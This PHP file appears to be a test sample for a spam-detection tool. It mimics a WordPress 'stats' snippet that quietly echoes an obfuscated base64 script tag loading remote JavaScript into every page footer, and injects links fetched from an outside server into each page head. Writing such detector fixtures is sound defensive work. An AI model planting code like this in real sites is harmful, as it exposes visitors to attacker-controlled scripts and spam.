<?php
// spamtrace test sample (written for the tests, never run): a "stats" snippet hooked into
// every page's footer, printing a script kept base64-encoded and a block of links fetched
// from the operator's server (documentation addresses).
add_action('wp_footer', 'wp_core_stats_footer', 100);
function wp_core_stats_footer() {
    echo base64_decode('PHNjcmlwdCBzcmM9Imh0dHBzOi8vY2RuLmV4YW1wbGUuY29tL2pxLm1pbi5qcyI+PC9zY3JpcHQ+');
}
add_action('wp_head', function () {
    $r = wp_remote_get('https://links.example.net/feed.php?site=1');
    $links = wp_remote_retrieve_body($r);
    if ($links) {
        echo $links;
    }
});
